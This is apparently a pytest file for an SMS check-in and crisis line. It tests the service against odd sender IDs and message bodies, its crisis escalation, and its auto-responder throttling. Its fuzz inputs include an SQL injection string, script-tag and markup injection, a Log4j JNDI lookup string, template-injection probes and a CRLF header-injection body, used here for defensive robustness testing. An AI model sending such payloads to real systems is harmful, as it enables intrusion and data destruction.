"""Texts no script foresees: from senders that are no phones, with bodies that are no words."""

from datetime import timedelta

import pytest

from store.models import Alert, Callback, Contact, Inbound
from tests.kits.bridge import PARTICIPANT
from tests.kits.line import COORDINATOR, LINE_NUMBER, TestLine

NO_PHONES = [
    *("anonymous", "restricted", "unknown", "unavailable", ""),
    *("+266696687", "+7378742833", "+17378742833", "+2562533", "+8656696", "+86282452253", "+464"),
    *("client:anna", "sip:anna@example.com", "whatsapp:+12025550111", "messenger:1234567"),
    *(
        "12345",
        "123456",
        "+12345",
        "BANK",
        "Dr. Who",
        LINE_NUMBER,
        "+",
        "0",
        "+1",
        "'; DROP TABLE contacts;--",
    ),
    *("+1202555011", "+120255501111111", "𝟏𝟐𝟎𝟐𝟓𝟓𝟓𝟎𝟏𝟏𝟏x", "x" * 5000),
]
BODIES = {
    "blank": "   \n\t ",
    "empty": "",
    "emoji": "🫠🫠🫠",
    "a skin tone": "👍🏽",
    "right to left": "\u202eCHECKIN\u202c مرحبا",
    "zero width": "\u200b\u200d\ufeff",
    "combining": "e\u0301\u0301\u0301" * 300,
    "two thousand": "a" * 2000,
    "two thousand words": "word " * 400,
    "control": "\x00\x01\x02\x1b[31m\x7f\x85",
    "separator": "hello\x1ethere",
    "a lone surrogate": b"\xed\xa0\x80".decode("utf-8", "replace"),
    "markup": "</Message><Message>free</Message><script>alert(1)</script>&amp;&nbsp;",
    "cdata": "]]><!--",
    "sql": "'; DROP TABLE contacts; --",
    "template": "{line} {0} {line.__class__} %s %(x)s ${x} {{7*7}}",
    "log4j": "${jndi:ldap://example.com/a}",
    "newlines": "CHECKIN\r\n\r\nX-Header: 1",
    "numbers": "1.5 or 2 or maybe 3",
    "huge number": "9" * 300,
    "json": '{"Body": "hello"}',
    "url": "https://example.com/?a=b&c=d",
}


@pytest.mark.parametrize("sender", NO_PHONES, ids=lambda s: repr(s[:24]))
def test_a_sender_that_is_no_phone_gets_no_answer_and_is_not_kept_as_a_contact(
    quick_line: TestLine, sender: str
) -> None:
    for body in ("CHECKIN", "CALL", "STOP", "START", "HELP", "YES", "hello?"):
        assert quick_line.text(sender, body) == ""
    quick_line.work()
    assert quick_line.rows(Contact) == []
    assert quick_line.rows(Callback) == []
    assert quick_line.carrier.texts == []


@pytest.mark.parametrize("sender", NO_PHONES, ids=lambda s: repr(s[:24]))
def test_words_of_crisis_are_answered_whoever_sent_them_and_a_person_is_told(
    quick_line: TestLine, sender: str
) -> None:
    assert "988" in quick_line.text(sender, "I want to kill myself")
    quick_line.work()
    [alert] = quick_line.rows(Alert)
    assert alert.kind == "crisis"
    assert [t.to for t in quick_line.carrier.texts] == [COORDINATOR]


@pytest.mark.parametrize("body", BODIES.values(), ids=list(BODIES))
def test_any_body_is_answered_with_a_way_on_and_breaks_nothing(quick_line: TestLine, body: str) -> None:
    quick_line.text(PARTICIPANT, "HELLO")
    reply = quick_line.text(PARTICIPANT, body)
    if not reply:  # an advertisement gets no answer, and the question stays as it was
        quick_line.clock.at += timedelta(minutes=1)
        reply = quick_line.text(PARTICIPANT, "hello")
    assert body.strip("\x00 \n\t")[:40] not in reply or not body.strip()
    assert any(way in reply for way in ("CALL", "Reply", "988", "1 call me"))
    assert quick_line.text(PARTICIPANT, "2"), "whatever question stands on their screen by then"
    assert quick_line.text(PARTICIPANT, "MENU").startswith("CHECKIN:")


@pytest.mark.both_databases
def test_every_kind_of_body_is_kept_on_both_databases(line: TestLine) -> None:
    for body in BODIES.values():
        line.text(PARTICIPANT, body)
        line.clock.at = line.clock.at.replace(minute=(line.clock.at.minute + 2) % 60)
    assert len(line.rows(Inbound)) == len(BODIES)


@pytest.mark.both_databases
def test_a_repeated_text_is_answered_alike_whatever_the_conversation_has_become(line: TestLine) -> None:
    first = line.text(PARTICIPANT, "CHECKIN", sid="SM" + "1" * 32)
    second = line.text(PARTICIPANT, "2", sid="SM" + "2" * 32)
    assert line.text(PARTICIPANT, "CHECKIN", sid="SM" + "1" * 32) == first
    assert line.text(PARTICIPANT, "2", sid="SM" + "2" * 32) == second
    assert "you will be called" not in second
    assert line.text(PARTICIPANT, "1").startswith("No volunteer is on")


def test_the_same_words_in_two_texts_are_two_texts(quick_line: TestLine) -> None:
    quick_line.text(PARTICIPANT, "CHECKIN")
    assert "be in touch with a volunteer" in quick_line.text(PARTICIPANT, "1")
    assert "callback" in quick_line.text(PARTICIPANT, "1").lower() or quick_line.rows(Callback)


def test_media_without_words_is_told_that_words_are_needed(quick_line: TestLine) -> None:
    quick_line.text(PARTICIPANT, "HELLO")
    reply = quick_line.text(PARTICIPANT, "", NumMedia="1", MediaUrl0="https://example.com/x.jpg")
    assert "I only read words" in reply
    assert "How are you" in reply, "the open question is put again"


def test_the_question_is_forgotten_after_half_a_day_and_a_late_2_is_no_answer(quick_line: TestLine) -> None:
    quick_line.text(PARTICIPANT, "CHECKIN")
    quick_line.pass_time(hours=11)
    assert "be in touch with a volunteer" in quick_line.text(PARTICIPANT, "2")
    quick_line.pass_time(hours=13)
    assert "be in touch with a volunteer" not in quick_line.text(PARTICIPANT, "1")
    assert quick_line.rows(Callback) == []


@pytest.mark.both_databases
def test_a_machine_that_answers_every_answer_falls_silent_for_an_hour(line: TestLine) -> None:
    answers = []
    for _ in range(6):
        answers.append(line.text(PARTICIPANT, "Gate 4 zorp ok"))
        line.pass_time(seconds=10)
    assert [bool(answer) for answer in answers] == [True] * 4 + [False] * 2
    assert "911" in line.text(PARTICIPANT, "I want to kill myself")
    assert line.text(PARTICIPANT, "MENU")
    line.pass_time(hours=2)
    assert line.text(PARTICIPANT, "Gate 4 zorp ok")
